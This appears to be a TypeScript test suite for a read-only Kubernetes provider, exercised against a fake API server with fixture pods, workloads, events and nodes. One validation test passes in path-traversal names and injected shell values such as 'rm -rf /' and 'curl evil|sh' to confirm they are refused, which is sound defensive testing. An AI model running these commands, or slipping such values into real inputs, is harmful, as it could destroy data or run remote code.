import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ServiceError } from "@/lib/errors";
import { startFakeKubernetes, writeKubeconfig, type FakeKubernetes, type KubeObject } from "@/test/helpers/fake-kubernetes";
import { createKubernetesProvider } from "./kubernetes";
import type { KubernetesProvider } from "./types";
import { rejection } from "@/test/helpers/rejection";

const ns = "prod";
const minutesAgo = (m: number) => new Date(Date.now() - m * 60_000).toISOString();
const owner = (kind: string, name: string, uid: string, apiVersion = "apps/v1") => [{ apiVersion, kind, name, uid, controller: true }];

const objects: KubeObject[] = [
  {
    kind: "Deployment",
    metadata: { name: "api", namespace: ns, uid: "dep-api", generation: 4 },
    spec: {
      replicas: 3,
      selector: { matchLabels: { app: "api" } },
      template: { metadata: { labels: { app: "api" } }, spec: { containers: [{ name: "app", image: "registry/api:v2" }, { name: "proxy", image: "envoy:1.30" }] } },
    },
    status: {
      observedGeneration: 4,
      replicas: 3,
      readyReplicas: 2,
      updatedReplicas: 3,
      availableReplicas: 2,
      conditions: [
        { type: "Available", status: "False", reason: "MinimumReplicasUnavailable", message: "Deployment does not have minimum availability." },
        { type: "Progressing", status: "True", reason: "NewReplicaSetAvailable" },
      ],
    },
  },
  {
    kind: "ReplicaSet",
    metadata: {
      name: "api-7d9",
      namespace: ns,
      uid: "rs-api-2",
      labels: { app: "api", "pod-template-hash": "7d9" },
      annotations: { "deployment.kubernetes.io/revision": "2" },
      creationTimestamp: minutesAgo(30),
      ownerReferences: owner("Deployment", "api", "dep-api"),
    },
    spec: { replicas: 3, template: { spec: { containers: [{ name: "app", image: "registry/api:v2" }] } } },
    status: { replicas: 3, readyReplicas: 2, availableReplicas: 2 },
  },
  {
    kind: "ReplicaSet",
    metadata: {
      name: "api-5c4",
      namespace: ns,
      uid: "rs-api-1",
      labels: { app: "api", "pod-template-hash": "5c4" },
      annotations: { "deployment.kubernetes.io/revision": "1" },
      creationTimestamp: minutesAgo(600),
      ownerReferences: owner("Deployment", "api", "dep-api"),
    },
    spec: { replicas: 0, template: { spec: { containers: [{ name: "app", image: "registry/api:v1" }] } } },
    status: { replicas: 0 },
  },
  {
    kind: "ReplicaSet",
    metadata: {
      name: "api-canary-111",
      namespace: ns,
      labels: { app: "api" },
      annotations: { "deployment.kubernetes.io/revision": "9" },
      ownerReferences: owner("Deployment", "api-canary", "dep-other"),
    },
    spec: { template: { spec: { containers: [{ name: "app", image: "registry/api:canary" }] } } },
  },
  {
    kind: "Pod",
    metadata: { name: "api-7d9-abcde", namespace: ns, labels: { app: "api" }, ownerReferences: owner("ReplicaSet", "api-7d9", "rs-api-2") },
    spec: {
      nodeName: "node-1",
      initContainers: [{ name: "migrate", image: "registry/api:v2" }],
      containers: [
        { name: "app", image: "registry/api:v2", resources: { requests: { cpu: "250m", memory: "256Mi" }, limits: { memory: "512Mi" } } },
        { name: "proxy", image: "envoy:1.30" },
      ],
    },
    status: {
      phase: "Running",
      startTime: minutesAgo(25),
      conditions: [
        { type: "Ready", status: "False", reason: "ContainersNotReady", message: "containers with unready status: [app]" },
        { type: "PodScheduled", status: "True" },
      ],
      initContainerStatuses: [
        { name: "migrate", image: "registry/api:v2", imageID: "", ready: true, restartCount: 0, state: { terminated: { exitCode: 0, reason: "Completed", finishedAt: minutesAgo(24) } } },
      ],
      containerStatuses: [
        {
          name: "app",
          image: "registry/api:v2",
          imageID: "",
          ready: false,
          restartCount: 5,
          state: { waiting: { reason: "CrashLoopBackOff", message: "back-off 5m0s restarting failed container=app" } },
          lastState: { terminated: { exitCode: 137, reason: "OOMKilled", finishedAt: minutesAgo(2) } },
        },
        { name: "proxy", image: "envoy:1.30", imageID: "", ready: true, restartCount: 0, state: { running: { startedAt: minutesAgo(24) } } },
      ],
    },
  },
  {
    kind: "Pod",
    metadata: { name: "api-gone-rs-x1", namespace: ns, labels: { app: "api-legacy" }, ownerReferences: owner("ReplicaSet", "api-gone", "rs-gone") },
    spec: { containers: [{ name: "app", image: "registry/api:v0" }] },
    status: { phase: "Pending", reason: "Evicted" },
  },
  {
    kind: "StatefulSet",
    metadata: { name: "db", namespace: ns, generation: 2 },
    spec: { replicas: 2, selector: { matchLabels: { app: "db" } }, template: { spec: { containers: [{ name: "postgres", image: "postgres:15" }] } } },
    status: { replicas: 2, readyReplicas: 1, updatedReplicas: 2, availableReplicas: 1, observedGeneration: 2 },
  },
  {
    kind: "Pod",
    metadata: { name: "db-0", namespace: ns, labels: { app: "db" }, ownerReferences: owner("StatefulSet", "db", "sts-db") },
    spec: { containers: [{ name: "postgres", image: "postgres:15" }] },
    status: { phase: "Running", containerStatuses: [{ name: "postgres", image: "postgres:15", imageID: "", ready: true, restartCount: 0, state: { running: {} } }] },
  },
  {
    kind: "DaemonSet",
    metadata: { name: "node-exporter", namespace: ns },
    spec: { selector: { matchLabels: { app: "node-exporter" } }, template: { spec: { containers: [{ name: "exporter", image: "prom/node-exporter:1.8" }] } } },
    status: { desiredNumberScheduled: 3, numberReady: 2, updatedNumberScheduled: 3, numberAvailable: 2, currentNumberScheduled: 3, numberMisscheduled: 0 },
  },
  {
    kind: "Pod",
    metadata: { name: "node-exporter-q2w", namespace: ns, labels: { app: "node-exporter" }, ownerReferences: owner("DaemonSet", "node-exporter", "ds-ne") },
    spec: { containers: [{ name: "exporter", image: "prom/node-exporter:1.8" }] },
    status: { phase: "Running" },
  },
  {
    kind: "Job",
    metadata: { name: "backup-29000", namespace: ns, ownerReferences: owner("CronJob", "backup", "cj-backup", "batch/v1") },
    spec: { completions: 1, backoffLimit: 2, template: { spec: { containers: [{ name: "backup", image: "registry/backup:3" }] } } },
    status: {
      failed: 3,
      startTime: minutesAgo(20),
      conditions: [{ type: "Failed", status: "True", reason: "BackoffLimitExceeded", message: "Job has reached the specified backoff limit" }],
    },
  },
  {
    kind: "Pod",
    metadata: { name: "backup-29000-zz9", namespace: ns, labels: { "job-name": "backup-29000" }, ownerReferences: owner("Job", "backup-29000", "job-b", "batch/v1") },
    spec: { containers: [{ name: "backup", image: "registry/backup:3" }] },
    status: {
      phase: "Failed",
      containerStatuses: [{ name: "backup", image: "registry/backup:3", imageID: "", ready: false, restartCount: 0, state: { terminated: { exitCode: 2, reason: "Error", finishedAt: minutesAgo(15) } } }],
    },
  },
  { kind: "Pod", metadata: { name: "debug-shell", namespace: ns }, spec: { containers: [{ name: "sh", image: "busybox" }] }, status: { phase: "Running" } },
  {
    kind: "Event",
    metadata: { name: "api-7d9-abcde.1", namespace: ns },
    involvedObject: { kind: "Pod", name: "api-7d9-abcde", namespace: ns },
    type: "Normal",
    reason: "Pulled",
    message: 'Container image "registry/api:v2" already present on machine',
    count: 6,
    lastTimestamp: minutesAgo(10),
  },
  {
    kind: "Event",
    metadata: { name: "api-7d9-abcde.2", namespace: ns },
    involvedObject: { kind: "Pod", name: "api-7d9-abcde", namespace: ns },
    type: "Warning",
    reason: "BackOff",
    message: "Back-off restarting failed container app in pod api-7d9-abcde",
    count: 14,
    lastTimestamp: minutesAgo(1),
  },
  {
    kind: "Event",
    metadata: { name: "db-0.1", namespace: ns },
    involvedObject: { kind: "Pod", name: "db-0", namespace: ns },
    type: "Normal",
    reason: "Started",
    message: "Started container postgres",
    lastTimestamp: minutesAgo(3),
  },
  {
    kind: "Node",
    metadata: { name: "node-1" },
    spec: { unschedulable: true },
    status: {
      conditions: [
        { type: "MemoryPressure", status: "True", reason: "KubeletHasInsufficientMemory", message: "kubelet has insufficient memory available" },
        { type: "Ready", status: "True", reason: "KubeletReady" },
      ],
      allocatable: { cpu: "3920m", memory: "15Gi", pods: "110" },
    },
  },
];

const logs = [
  { namespace: ns, pod: "api-7d9-abcde", container: "app", lines: ["starting api", "listening on :8080"] },
  { namespace: ns, pod: "api-7d9-abcde", container: "app", previous: true, lines: ["starting api", "loading cache", "fatal: out of memory", "x".repeat(5_000)] },
  { namespace: ns, pod: "api-7d9-abcde", container: "proxy", lines: ["envoy ready"] },
];

describe("kubernetes provider against the fake API server", () => {
  let fake: FakeKubernetes;
  let k8s: KubernetesProvider;

  beforeAll(async () => {
    fake = await startFakeKubernetes({ objects, logs });
    k8s = createKubernetesProvider({ kubeconfigPath: writeKubeconfig(fake.url, ns), timeoutMs: 5_000 });
  });
  afterAll(async () => {
    await fake?.stop();
  });

  it("reads a crash-looping pod with container, init container, resources and owner facts", async () => {
    const pod = await k8s.getPod(ns, "api-7d9-abcde");
    expect(pod).toMatchObject({
      namespace: ns,
      name: "api-7d9-abcde",
      phase: "Running",
      nodeName: "node-1",
      owner: { kind: "ReplicaSet", name: "api-7d9" },
      labels: { app: "api" },
      conditions: [
        { type: "Ready", status: "False", reason: "ContainersNotReady", message: "containers with unready status: [app]" },
        { type: "PodScheduled", status: "True" },
      ],
    });
    expect(pod!.startTime).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(pod!.containers).toEqual([
      {
        name: "app",
        image: "registry/api:v2",
        ready: false,
        restartCount: 5,
        state: "waiting",
        waitingReason: "CrashLoopBackOff",
        waitingMessage: "back-off 5m0s restarting failed container=app",
        lastTerminatedReason: "OOMKilled",
        lastTerminatedExitCode: 137,
        lastTerminatedAt: expect.stringMatching(/Z$/),
        requests: { cpu: "250m", memory: "256Mi" },
        limits: { memory: "512Mi" },
      },
      { name: "proxy", image: "envoy:1.30", ready: true, restartCount: 0, state: "running", requests: {}, limits: {} },
    ]);
    expect(pod!.initContainers).toEqual([
      expect.objectContaining({ name: "migrate", state: "terminated", lastTerminatedReason: "Completed", lastTerminatedExitCode: 0 }),
    ]);
  });

  it("reports a terminated container's own exit as its last termination, and the pod reason", async () => {
    const job = await k8s.getPod(ns, "backup-29000-zz9");
    expect(job!.containers[0]).toMatchObject({ state: "terminated", lastTerminatedReason: "Error", lastTerminatedExitCode: 2 });
    const evicted = await k8s.getPod(ns, "api-gone-rs-x1");
    expect(evicted).toMatchObject({ phase: "Pending", reason: "Evicted" });
    expect(evicted!.containers[0]).toMatchObject({ state: "unknown", ready: false, restartCount: 0 });
  });

  it("returns null for a missing pod", async () => {
    expect(await k8s.getPod(ns, "nope")).toBeNull();
    expect(await k8s.getPod("other-namespace", "api-7d9-abcde")).toBeNull();
  });

  it("lists pods by label selector", async () => {
    expect((await k8s.listPods(ns, "app=api")).map((p) => p.name)).toEqual(["api-7d9-abcde"]);
    expect((await k8s.listPods(ns, "app in (db,node-exporter)")).map((p) => p.name).sort()).toEqual(["db-0", "node-exporter-q2w"]);
    expect(await k8s.listPods(ns, "app=missing")).toEqual([]);
  });

  it("lists the events of one object, newest first", async () => {
    const events = await k8s.listEvents(ns, "api-7d9-abcde");
    expect(events.map((e) => e.reason)).toEqual(["BackOff", "Pulled"]);
    expect(events[0]).toMatchObject({ type: "Warning", count: 14, involvedObject: { kind: "Pod", name: "api-7d9-abcde" } });
    expect(events[0]!.lastTimestamp).toMatch(/Z$/);
    expect(await k8s.listEvents(ns, "nothing-here")).toEqual([]);
  });

  it("resolves owner chains: Pod → ReplicaSet → Deployment, StatefulSet, DaemonSet, Job", async () => {
    expect(await k8s.resolveOwnerWorkload(ns, "api-7d9-abcde")).toEqual({ kind: "Deployment", name: "api", namespace: ns });
    expect(await k8s.resolveOwnerWorkload(ns, "db-0")).toEqual({ kind: "StatefulSet", name: "db", namespace: ns });
    expect(await k8s.resolveOwnerWorkload(ns, "node-exporter-q2w")).toEqual({ kind: "DaemonSet", name: "node-exporter", namespace: ns });
    expect(await k8s.resolveOwnerWorkload(ns, "backup-29000-zz9")).toEqual({ kind: "Job", name: "backup-29000", namespace: ns });
  });

  it("stops at the ReplicaSet when it is gone, and returns null for bare or missing pods", async () => {
    expect(await k8s.resolveOwnerWorkload(ns, "api-gone-rs-x1")).toEqual({ kind: "ReplicaSet", name: "api-gone", namespace: ns });
    expect(await k8s.resolveOwnerWorkload(ns, "debug-shell")).toBeNull();
    expect(await k8s.resolveOwnerWorkload(ns, "nope")).toBeNull();
  });

  it("reads a Deployment with its rollout history from its own ReplicaSets", async () => {
    const d = await k8s.getWorkload(ns, "Deployment", "api");
    expect(d).toMatchObject({
      kind: "Deployment",
      namespace: ns,
      name: "api",
      desired: 3,
      ready: 2,
      updated: 3,
      available: 2,
      generation: 4,
      observedGeneration: 4,
      images: ["registry/api:v2", "envoy:1.30"],
    });
    expect(d!.conditions[0]).toEqual({
      type: "Available",
      status: "False",
      reason: "MinimumReplicasUnavailable",
      message: "Deployment does not have minimum availability.",
    });
    expect(d!.revisions.map((r) => [r.revision, r.images])).toEqual([
      ["2", ["registry/api:v2"]],
      ["1", ["registry/api:v1"]],
    ]);
    expect(Date.parse(d!.revisions[0]!.createdAt)).toBeGreaterThan(Date.parse(d!.revisions[1]!.createdAt));
  });

  it("reads StatefulSet, DaemonSet, ReplicaSet and Job status", async () => {
    expect(await k8s.getWorkload(ns, "StatefulSet", "db")).toMatchObject({ desired: 2, ready: 1, updated: 2, available: 1, images: ["postgres:15"], revisions: [] });
    expect(await k8s.getWorkload(ns, "DaemonSet", "node-exporter")).toMatchObject({ desired: 3, ready: 2, updated: 3, available: 2 });
    expect(await k8s.getWorkload(ns, "ReplicaSet", "api-7d9")).toMatchObject({ desired: 3, ready: 2, available: 2 });
    const job = await k8s.getWorkload(ns, "Job", "backup-29000");
    expect(job).toMatchObject({
      kind: "Job",
      desired: 1,
      images: ["registry/backup:3"],
      conditions: [{ type: "Failed", status: "True", reason: "BackoffLimitExceeded" }],
      job: { succeeded: 0, failed: 3, active: 0 },
    });
    expect(job!.job!.startTime).toMatch(/Z$/);
  });

  it("returns null for missing workloads", async () => {
    expect(await k8s.getWorkload(ns, "Deployment", "nope")).toBeNull();
    expect(await k8s.getWorkload(ns, "StatefulSet", "nope")).toBeNull();
    expect(await k8s.getWorkload(ns, "DaemonSet", "nope")).toBeNull();
    expect(await k8s.getWorkload(ns, "Job", "nope")).toBeNull();
  });

  it("reads current and previous container logs, tail-limited and with long lines cut", async () => {
    expect(await k8s.getPodLogs(ns, "api-7d9-abcde", { container: "app" })).toEqual(["starting api", "listening on :8080"]);
    const previous = await k8s.getPodLogs(ns, "api-7d9-abcde", { container: "app", previous: true, tailLines: 2 });
    expect(previous).toHaveLength(2);
    expect(previous[0]).toBe("fatal: out of memory");
    expect(previous[1]!.length).toBeLessThanOrEqual(2_001);
    expect(previous[1]!.endsWith("…")).toBe(true);
    expect(await k8s.getPodLogs(ns, "api-7d9-abcde", { container: "proxy" })).toEqual(["envoy ready"]);
  });

  it("picks the first container when none is named, and returns [] when there is nothing to read", async () => {
    expect(await k8s.getPodLogs(ns, "api-7d9-abcde", {})).toEqual(["starting api", "listening on :8080"]);
    expect(await k8s.getPodLogs(ns, "db-0", { previous: true })).toEqual([]);
    expect(await k8s.getPodLogs(ns, "nope", { container: "app" })).toEqual([]);
    expect(await k8s.getPodLogs(ns, "nope", {})).toEqual([]);
  });

  it("reads node conditions, schedulability and allocatable resources", async () => {
    expect(await k8s.getNode("node-1")).toEqual({
      name: "node-1",
      conditions: [
        { type: "MemoryPressure", status: "True", reason: "KubeletHasInsufficientMemory", message: "kubelet has insufficient memory available" },
        { type: "Ready", status: "True", reason: "KubeletReady" },
      ],
      unschedulable: true,
      allocatable: { cpu: "3920m", memory: "15Gi", pods: "110" },
    });
    expect(await k8s.getNode("node-404")).toBeNull();
  });

  it("refuses names that are not RFC 1123 before any request: `..` never widens a call to the whole cluster", async () => {
    const before = fake.requests.length;
    const attempts: Array<Promise<unknown>> = [
      k8s.getPod("..", "api-7d9-abcde"),
      k8s.listPods("..", "app=api"),
      k8s.listPods(ns, "app=api;x=$(id)"),
      k8s.listEvents("..", "api-7d9-abcde"),
      k8s.listEvents(ns, "../../nodes"),
      k8s.resolveOwnerWorkload(ns, "a/../../b"),
      k8s.getWorkload(ns, "Deployment", ".."),
      k8s.getPodLogs(ns, "api-7d9-abcde", { container: "app;rm -rf /" }),
      k8s.getNode("node-1/../../secrets"),
      k8s.getPod("monitoring;curl evil|sh", "x"),
      k8s.getHorizontalPodAutoscaler("..", "api"),
      k8s.getHorizontalPodAutoscaler(ns, "a/../../b"),
      k8s.listResourceQuotas(".."),
      k8s.getPersistentVolumeClaim(ns, ".."),
      k8s.getPersistentVolume("pv-1/../../secrets"),
      k8s.listEventsByReason("..", "FailedCreate"),
      k8s.listEventsByReason(ns, "FailedCreate,involvedObject.name=x"),
    ];
    for (const attempt of attempts) {
      const e = await rejection(attempt);
      expect(e.code).toBe("invalid_input");
    }
    expect(fake.requests.slice(before)).toEqual([]);
  });

  it("never sent anything but GET", () => {
    expect(fake.requests.length).toBeGreaterThan(20);
    expect(fake.requests.filter((r) => r.method !== "GET")).toEqual([]);
    expect(fake.mutationAttempts).toBe(0);
  });
});

describe("kubernetes provider failures", () => {
  it("turns server errors into ServiceError(unavailable) with the API's message", async () => {
    const fake = await startFakeKubernetes({ objects });
    try {
      fake.setFailure(500);
      const k8s = createKubernetesProvider({ kubeconfigPath: writeKubeconfig(fake.url, ns), timeoutMs: 5_000 });
      const e = await rejection(k8s.getPod(ns, "api-7d9-abcde"));
      expect(e.code).toBe("unavailable");
      expect(e.message).toBe(`Kubernetes GET pods/${ns}/api-7d9-abcde failed: HTTP 500: fake failure 500`);
      expect((await rejection(k8s.listEvents(ns, "api-7d9-abcde"))).code).toBe("unavailable");
      fake.setFailure(403);
      expect((await rejection(k8s.getNode("node-1"))).details).toMatchObject({ reason: "http", status: 403 });
    } finally {
      await fake.stop();
    }
  });

  it("rejects within about the timeout when the API server is slow", async () => {
    const fake = await startFakeKubernetes({ objects, delayMs: 3_000 });
    try {
      const k8s = createKubernetesProvider({ kubeconfigPath: writeKubeconfig(fake.url, ns), timeoutMs: 300 });
      const started = Date.now();
      const e = await rejection(k8s.getPod(ns, "api-7d9-abcde"));
      expect(Date.now() - started).toBeLessThan(1_500);
      expect(e.message).toContain("timed out after 300 ms");
      expect(e.details).toMatchObject({ reason: "timeout" });
    } finally {
      await fake.stop();
    }
  });

  it("reports an unreachable API server as unavailable", async () => {
    const fake = await startFakeKubernetes({ objects: [] });
    const url = fake.url;
    await fake.stop();
    const k8s = createKubernetesProvider({ kubeconfigPath: writeKubeconfig(url, ns), timeoutMs: 2_000 });
    const e = await rejection(k8s.getNode("node-1"));
    expect(e.code).toBe("unavailable");
    expect(e.details).toMatchObject({ reason: "network" });
  });

  it("refuses an unreadable kubeconfig with invalid_input naming the file", () => {
    let error: unknown;
    try {
      createKubernetesProvider({ kubeconfigPath: "/nonexistent/kubeconfig", timeoutMs: 1_000 });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ServiceError);
    expect((error as ServiceError).code).toBe("invalid_input");
    expect((error as ServiceError).message).toContain("/nonexistent/kubeconfig");
  });

  it("the fake refuses and counts writes, so the read-only assertion can fail", async () => {
    const fake = await startFakeKubernetes({ objects });
    try {
      const res = await fetch(`${fake.url}/api/v1/namespaces/${ns}/pods/api-7d9-abcde`, { method: "DELETE" });
      expect(res.status).toBe(405);
      expect(((await res.json()) as { kind: string }).kind).toBe("Status");
      expect(fake.mutationAttempts).toBe(1);
    } finally {
      await fake.stop();
    }
  });
});
